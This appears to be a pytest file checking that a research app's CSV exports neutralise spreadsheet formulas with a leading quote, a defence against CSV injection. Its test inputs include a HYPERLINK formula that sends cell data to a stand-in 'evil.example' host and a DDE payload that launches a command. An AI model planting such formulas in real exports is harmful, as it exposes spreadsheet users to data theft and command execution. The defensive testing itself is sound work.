"""Every CSV download neutralises cells a spreadsheet would run as a formula (OWASP's rule:
a leading single quote), through the one CSV writer, dyads.csvfile."""

import csv
import io
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from analysis.coding.models import Code
from analysis.deliberation.models import Decision
from analysis.exchange.segments import write_csv
from analysis.supervision.audit_report import Period, decision_log_csv
from dyads.csvfile import FORMULA_STARTS, csv_text, safe_cell
from tests.analysis.agreement_setup import double_coded
from tests.analysis.audit_setup import redefined_code_story
from tests.analysis.refi_files import coded_study
from tests.conftest import api_as

ROOT = Path(__file__).resolve().parents[2]
ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def parsed(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_each_formula_start_gets_a_single_quote():
    for start in FORMULA_STARTS:
        assert safe_cell(f"{start}1+1") == f"'{start}1+1"


def test_plain_text_numbers_and_empty_cells_stay_as_they_are():
    assert [safe_cell(value) for value in ("Safety", "a=b", -0.25, 3, None, "")] == [
        "Safety",
        "a=b",
        -0.25,
        3,
        "",
        "",
    ]


@given(st.lists(st.text(st.characters(exclude_categories=("Cs",))), min_size=1, max_size=5))
def test_no_written_cell_starts_a_formula_and_each_keeps_its_text(cells):
    (row,) = parsed(csv_text(cells, []))

    assert not any(cell.startswith(FORMULA_STARTS) for cell in row)
    assert row == [f"'{cell}" if cell.startswith(FORMULA_STARTS) else cell for cell in cells]


def test_the_segments_csv_quotes_a_code_named_like_a_formula(cast):
    parent, _ = coded_study(cast)[0]
    Code.objects.filter(pk=parent.pk).update(name=ATTACK)
    out = io.StringIO()

    write_csv(actor=cast.owner, study=cast.study, out=out)

    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert {row["Code"].split(" / ")[0] for row in rows} == {f"'{ATTACK}"}


def test_the_decision_log_csv_quotes_a_rationale_like_a_formula(cast):
    redefined_code_story(cast)
    Decision.objects.filter(study=cast.study).update(rationale="@SUM(1+1)*cmd|' /C calc'!A0")

    rows = list(
        csv.DictReader(io.StringIO("".join(decision_log_csv(study=cast.study, period=Period()))))
    )

    assert rows and {row["rationale"] for row in rows} == {"'@SUM(1+1)*cmd|' /C calc'!A0"}


def test_the_agreement_api_csv_quotes_a_code_named_like_a_formula(cast):
    setup = double_coded(cast)
    Code.objects.filter(pk=setup.a.pk).update(name="+1-1")

    response = api_as(cast.owner).get(
        f"/api/v1/studies/{cast.study.pk}/agreement/?session={setup.session.pk}&format=csv"
    )

    rows = parsed(response.content.decode())
    assert rows[1][:2] == [str(setup.a.pk), "'+1-1"]


def test_no_module_writes_csv_past_the_one_writer():
    writers = [
        path.relative_to(ROOT)
        for app in ("dyads", "interviews", "analysis", "config")
        for path in (ROOT / app).rglob("*.py")
        if path.name != "csvfile.py"
        and any(
            call in path.read_text() for call in ("csv.writer(", "DictWriter(", "csv.DictWriter")
        )
    ]

    assert writers == []
